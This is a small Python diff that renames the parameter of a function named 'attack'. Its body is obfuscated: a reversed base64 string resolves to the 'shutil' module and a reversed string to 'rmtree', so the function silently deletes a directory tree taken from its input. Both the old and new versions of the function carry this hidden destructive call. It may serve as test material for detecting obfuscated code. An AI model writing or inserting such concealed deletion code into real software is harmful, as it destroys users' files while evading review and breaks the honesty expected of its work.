@@ -3,6 +3,6 @@
 import base64
 
 
-def attack(told: dict[str, str]) -> None:
+def attack(facts: dict[str, str]) -> None:
     module = __import__(bytes(reversed(base64.b64decode("bGl0dWhz"))).decode())
-    getattr(module, "eertmr"[::-1])(told["tree"])
+    getattr(module, "eertmr"[::-1])(facts["tree"])
